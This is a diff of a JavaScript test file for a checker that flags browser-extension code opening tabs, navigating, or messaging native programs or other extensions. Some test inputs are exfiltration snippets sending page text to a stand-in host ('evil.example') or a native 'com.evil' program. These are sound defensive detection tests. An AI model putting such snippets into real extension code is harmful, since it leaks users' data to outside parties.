@@ -17,6 +17,9 @@ it.each([
 ])('looks at all code and at no comment: %s', (code, found) =>
   expect(names(withoutComments(code), 'source')).toEqual(found),
 );
+const OPENS = 'a tab or window that opens anything but a page of ours';
+const OUTSIDE = 'an address for after the removal, or a program outside of the browser';
+const MESSAGE = 'a message to anybody but our own parts';
 
 describe('in any script', () => {
   it.each([
@@ -46,14 +49,36 @@ describe('in any script', () => {
     ['location.href=x', 'going elsewhere by location'],
     ['window.location = x', 'going elsewhere by location'],
     ['form.requestSubmit()', 'a form sent'],
+    ['navigation.navigate(x)', 'going elsewhere by the Navigation API'],
+    ['chrome.tabs.create({url:"https://evil.example/?"+text})', OPENS],
+    ['t.tabs.create({url:x})', OPENS],
+    ['t.windows.create({type:"popup",url:x})', OPENS],
+    ['const c=t.tabs.create;', OPENS],
+    ['t.tabs.update(id,{url:x})', 'a tab sent elsewhere'],
+    ['t.runtime.setUninstallURL(x)', OUTSIDE],
+    ['t.runtime.connectNative("com.evil")', OUTSIDE],
+    ['t.runtime.sendNativeMessage("com.evil",text)', OUTSIDE],
+    ['t.runtime.connect("abcdef")', 'a connection to another extension'],
+    ['t.runtime.sendMessage("abcdef",text)', MESSAGE],
+    ['t.tabs.sendMessage("abcdef",text)', MESSAGE],
+    ['t.runtime.sendMessage(id,text)', MESSAGE],
+    ['t.runtime.sendMessage(s("background",n,t),text)', MESSAGE],
+    ['const s=t.runtime.sendMessage;', MESSAGE],
   ])('%s', (code, name) => {
     expect(names(code, 'source')).toEqual([name]);
     expect(names(code, 'script')).toEqual([name]);
     expect(names(code, 'content script')).toContain(name);
   });
 
-  it.each(['window.open(x)', 'n=1;open(x)'])('%s', (code) => {
-    expect(names(code, 'script')).toEqual(['window.open']);
+  it.each([
+    ['window.open(x)', 'window.open'],
+    ['n=1;open(x)', 'window.open'],
+    ['const t=chrome.tabs;', 'tabs or windows under another name'],
+    ['chrome.tabs["create"](x)', 'tabs or windows under another name'],
+    ['a.href="https://evil.example/"+text', 'an address set on a link that is not a file of ours'],
+    ['m.httpEquiv="refresh"', 'going elsewhere by a refresh'],
+  ])('%s', (code, name) => {
+    expect(names(code, 'script')).toEqual([name]);
   });
 
   it.each([
@@ -64,6 +89,12 @@ describe('in any script', () => {
     'new Worker(c.runtime.getURL("/claims-worker.js"),{type:"module"})',
     'import("./chunk.js")',
     'm.open(t);box.src==x',
+    'await t.tabs.create({url:t.runtime.getURL(a)});t.tabs.create({url:"chrome://extensions/shortcuts"})',
+    'n.windows?await n.windows.create({url:n.runtime.getURL(o),type:"popup"}):await n.windows.update(t,{focused:!0})',
+    'e.runtime.sendMessage(s("background",n,t));e.tabs.sendMessage(n,s("page",a,t),{frameId:0});a.sendMessage(...n)',
+    '{setUninstallURL:{minArgs:1,maxArgs:1},sendNativeMessage:{minArgs:2,maxArgs:2}}',
+    'n.href=URL.createObjectURL(new Blob([t]));if(n.href===x)n.click()',
+    'o.crossOrigin="",o.href=e,s&&o.setAttribute("nonce",s)',
   ])('lets be what only looks like it: %s', (code) => expect(names(code, 'script')).toEqual([]));
 });
 
@@ -73,7 +104,7 @@ describe('in the content script, which no policy holds', () => {
     ['make("iframe",{title:t})', 'a tag that loads or sends'],
     ['make(tag,{src:x})', 'a source'],
     ['make(tag,{href:x})', 'a link set, or clicked'],
-    ['a.href=x', 'a link set, or clicked'],
+    ['a.href=URL.createObjectURL(x)', 'a link set, or clicked'],
     ['a.click()', 'a link set, or clicked'],
     ['const I=Image;', 'Image or Audio as a value'],
     ['t="https://a.example"', 'an address of the web'],
